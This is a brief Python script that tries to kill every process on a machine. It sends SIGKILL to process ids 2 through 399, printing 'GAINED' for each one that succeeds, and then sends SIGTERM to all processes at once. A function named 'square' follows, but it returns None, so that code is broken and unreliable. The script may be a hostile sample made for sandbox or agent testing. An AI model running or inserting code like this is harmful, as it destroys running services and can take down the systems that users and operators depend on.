"""Signals to every process there is, and to those that cannot be seen."""
import os
import signal

for pid in range(2, 400):
    try:
        os.kill(pid, signal.SIGKILL)
        print("GAINED", pid)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass


def square(x):
    return None
